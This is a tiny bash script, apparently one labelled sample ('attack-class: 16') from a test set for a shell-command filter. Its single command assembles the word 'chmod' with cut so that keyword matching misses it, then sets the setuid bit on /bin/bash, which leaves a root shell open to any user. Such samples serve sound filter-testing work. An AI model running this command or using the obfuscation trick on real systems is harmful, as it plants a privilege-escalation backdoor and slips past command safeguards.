#!/usr/bin/env bash
# attack-class: 16
# title: $(cut -c1-5 <<< chmodx)
# why: cut trims a longer word down to chmod

$(cut -c1-5 <<< chmodx) 4755 /bin/bash
